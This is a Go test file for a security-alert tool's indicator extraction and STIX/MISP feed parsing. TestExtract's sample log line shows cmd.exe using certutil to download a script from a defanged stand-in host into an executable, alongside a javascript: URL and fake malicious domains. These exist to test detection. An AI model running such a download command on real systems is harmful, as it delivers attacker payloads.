package entity

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/securenexus/securenexus/internal/alert"
)

func TestCanonical(t *testing.T) {
	cases := []struct {
		t        alert.EntityType
		in, want string
		ok       bool
	}{
		{alert.EntityIP, " 10.0.0.1 ", "10.0.0.1", true},
		{alert.EntityIP, "000.111.222.10", "", false},
		{alert.EntityIP, "::ffff:192.0.2.1", "192.0.2.1", true},
		{alert.EntityIP, "FE80:0000:0000:0000:FADA:0CFF:FEDC:87F1", "fe80::fada:cff:fedc:87f1", true},
		{alert.EntityIP, "[2001:db8::1]", "2001:db8::1", true},
		{alert.EntityIP, "10.0.0.1:443", "10.0.0.1", true},
		{alert.EntityIP, "0.0.0.0", "", false},
		{alert.EntityIP, "127.0.0.1", "", false},
		{alert.EntityIP, "::1", "", false},
		{alert.EntityIP, "ecs.amazonaws.com", "", false},
		{alert.EntityDomain, "WWW.Example.COM.", "www.example.com", true},
		{alert.EntityDomain, "*.domain.dev", "domain.dev", true},
		{alert.EntityDomain, "cmd.exe", "", false},
		{alert.EntityDomain, "GeneratedFindingDomainName", "", false},
		{alert.EntityDomain, "co.uk", "", false},
		{alert.EntityDomain, "foo.github.io", "foo.github.io", true},
		{alert.EntityDomain, "a..b.com", "", false},
		{alert.EntityHostname, "DESKTOP1111", "desktop1111", true},
		{alert.EntityHostname, "bad host", "", false},
		{alert.EntityURL, "HTTPS://WWW.Example.com/Cart?x=1", "https://www.example.com/Cart?x=1", true},
		{alert.EntityURL, "javascript:alert(1)", "", false},
		{alert.EntityURL, "http://", "", false},
		{alert.EntityEmail, "John.Doe@Example.com", "john.doe@example.com", true},
		{alert.EntityEmail, "john@localhost", "", false},
		{alert.EntityMD5, "DEBF08C09D49337FBE7ACDE4D3749242", "debf08c09d49337fbe7acde4d3749242", true},
		{alert.EntitySHA1, "0000000000000000000000000000000000000000", "", false},
		{alert.EntitySHA256, "xyz", "", false},
		{alert.EntityUser, "N/A", "", false},
		{alert.EntityUser, `NT AUTHORITY\SYSTEM`, `NT AUTHORITY\SYSTEM`, true},
		{alert.EntityCloudID, "/subscriptions/ABC/resourceGroups/RG", "/subscriptions/abc/resourcegroups/rg", true},
		{TypeCIDR, "58.246.0.1/15", "58.246.0.0/15", true},
		{alert.EntityUser, "bad\xffutf8", "", false},
	}
	for _, c := range cases {
		got, ok := Canonical(c.t, c.in)
		if ok != c.ok || got != c.want {
			t.Errorf("Canonical(%s, %q) = %q, %v; want %q, %v", c.t, c.in, got, ok, c.want, c.ok)
		}
	}
}

func TestSetDedupeAndRoles(t *testing.T) {
	var s Set
	s.Add(alert.EntityIP, "10.0.0.1", RoleSrc)
	s.Add(alert.EntityIP, "10.0.0.1", RoleSrc)
	s.Add(alert.EntityIP, "10.0.0.1", RoleDst)
	s.Scan("from 10.0.0.1 to 10.0.0.2")
	s.Add(alert.EntityIP, "10.0.0.2", RoleDst) // upgrades the related one
	s.Add(alert.EntityHostname, "10.0.0.3", RoleHost)
	s.Add(alert.EntityURL, "http://evil.example.org/x", RoleDst)
	want := []alert.Entity{
		{Type: "ip", Value: "10.0.0.1", Role: "src"}, {Type: "ip", Value: "10.0.0.1", Role: "dst"},
		{Type: "ip", Value: "10.0.0.2", Role: "dst"}, {Type: "ip", Value: "10.0.0.3", Role: "host"},
		{Type: "url", Value: "http://evil.example.org/x", Role: "dst"}, {Type: "domain", Value: "evil.example.org", Role: "related"},
	}
	if !slices.Equal(s.Entities(), want) {
		t.Errorf("got %+v\nwant %+v", s.Entities(), want)
	}
	if !s.Has(alert.EntityURL) || s.Has(alert.EntityEmail) || s.Len() != 6 {
		t.Error("Has/Len")
	}
}

func TestExtract(t *testing.T) {
	text := `User admin@Corp.example.com ran "C:\Windows\System32\cmd.exe /c certutil -urlcache -f hxxp://198.51.100.23:8080/p.ps1 out.exe"
		from 000.111.222.10 and fe80::1; beacon to update.evil-cdn.net and malware.zip.
		hash=44D88612FEA8A8F36DE82E1278ABB02F sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f
		zero 0000000000000000000000000000000000000000 arn:aws:iam::123456789012:user/alice i-0abc123def4567890
		/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1
		//compute.googleapis.com/projects/p/zones/z/instances/vm visit https://Docs.Example.org/a(b)?c=1. readme.md report.pdf
		time 10:52:01 version 1.2.3 v2.0`
	got := Extract(text)
	want := []alert.Entity{
		{Type: "email", Value: "admin@corp.example.com", Role: "related"},
		{Type: "url", Value: "hxxp://198.51.100.23:8080/p.ps1", Role: "related"},
		{Type: "ip", Value: "198.51.100.23", Role: "related"},
		{Type: "ip", Value: "fe80::1", Role: "related"},
		{Type: "domain", Value: "update.evil-cdn.net", Role: "related"},
		{Type: "md5", Value: "44d88612fea8a8f36de82e1278abb02f", Role: "related"},
		{Type: "sha256", Value: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", Role: "related"},
		{Type: "cloud_resource", Value: "arn:aws:iam::123456789012:user/alice", Role: "related"},
		{Type: "cloud_resource", Value: "i-0abc123def4567890", Role: "related"},
		{Type: "cloud_resource", Value: "/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm1", Role: "related"},
		{Type: "cloud_resource", Value: "//compute.googleapis.com/projects/p/zones/z/instances/vm", Role: "related"},
		{Type: "url", Value: "https://docs.example.org/a", Role: "related"},
		{Type: "domain", Value: "docs.example.org", Role: "related"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("Extract:\n got %+v\nwant %+v", got, want)
	}
}

func corpus(t *testing.T, rel string) []byte {
	t.Helper()
	wd, _ := os.Getwd()
	for dir := wd; ; dir = filepath.Dir(dir) {
		for _, c := range []string{filepath.Join(dir, "shared", "corpus"), filepath.Join(dir, "..", "shared", "corpus")} {
			if b, err := os.ReadFile(filepath.Join(c, rel)); err == nil {
				return b
			}
		}
		if filepath.Dir(dir) == dir {
			t.Fatalf("corpus file %s not found beside the repository (walked up from %s)", rel, wd)
		}
	}
}

func count(inds []Indicator) map[alert.EntityType]int {
	m := map[alert.EntityType]int{}
	for _, i := range inds {
		m[i.Type]++
	}
	return m
}

func TestParseSTIXCorpus(t *testing.T) {
	inds, err := ParseSTIX(corpus(t, "stix/apt1_report_bundle.json"))
	if err != nil {
		t.Fatal(err)
	}
	c := count(inds)
	if c[TypeCIDR] != 4 || c[alert.EntityDomain] != 3 || c[alert.EntityMD5] != 3 || c[TypeSTIXPattern] != 2 || len(inds) != 12 {
		t.Errorf("apt1 counts %v (%d)", c, len(inds))
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool {
		return i.Type == TypeCIDR && i.Value == "223.166.0.0/15" && i.SourceID != "" && i.Detect
	}) {
		t.Errorf("missing CIDR 223.166.0.0/15: %+v", inds)
	}
	inds, err = ParseSTIX(corpus(t, "stix/indicators-for-C2-with-COA.json"))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool { return i.Type == alert.EntityIP && i.Value == "10.0.0.0" }) ||
		!slices.ContainsFunc(inds, func(i Indicator) bool {
			return i.Type == alert.EntitySHA256 && i.Value == "ef537f25c895bfa782526529a9b63d97aa631564d5d789c2b765448c8635fb6c"
		}) {
		t.Errorf("C2 indicators %+v", inds)
	}
	inds, err = ParseSTIX(corpus(t, "stix/malicious-email-indicator-with-attachment.json"))
	if err != nil || len(inds) != 2 || inds[0].Type != TypeSTIXPattern {
		t.Errorf("email indicators %+v %v", inds, err)
	}
	inds, err = ParseSTIX([]byte(`{"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = '198.51.100.1' OR domain-name:value = 'it\\'s.example.com'] AND [url:value = 'http://x.example.net/a']"}`))
	if err != nil || len(inds) != 2 || inds[0].Value != "198.51.100.1" || inds[1].Value != "http://x.example.net/a" {
		t.Errorf("pattern with OR/AND: %+v %v", inds, err)
	}
	if _, err := ParseSTIX([]byte(`{"type":"bundle","objects":[1]}`)); err == nil {
		t.Error("bad object accepted")
	}
}

func TestParseMISPCorpus(t *testing.T) {
	inds, err := ParseMISP(corpus(t, "misp/event_xorist_ransomware_circl.json"))
	if err != nil {
		t.Fatal(err)
	}
	c := count(inds)
	if c[alert.EntityMD5] != 1 || c[alert.EntitySHA1] != 1 || c[alert.EntitySHA256] != 1 || c[alert.EntityFile] != 1 || c[TypeRegistryKey] != 1 {
		t.Errorf("xorist counts %v", c)
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool {
		return i.Value == "0749bae92ca336a02c83d126e04ec628" && len(i.Labels) == 4
	}) {
		t.Errorf("md5 with 4 event tags missing: %+v", inds)
	}
	inds, err = ParseMISP(corpus(t, "misp/event_osint_qakbot_emotet.json"))
	if err != nil {
		t.Fatal(err)
	}
	if c := count(inds); c[alert.EntityIP] < 19 {
		t.Errorf("qakbot ip count %v", c)
	}
	if _, err := ParseMISP([]byte(`{"foo":1}`)); err == nil {
		t.Error("non-event accepted")
	}
	inds, err = ParseMISP([]byte(`{"response":[{"Event":{"info":"x","Attribute":[{"type":"domain|ip","value":"evil.example.com|198.51.100.1","to_ids":false}]}}]}`))
	if err != nil || len(inds) != 2 || inds[0].Detect || inds[1].Value != "198.51.100.1" {
		t.Errorf("composite %+v %v", inds, err)
	}
}
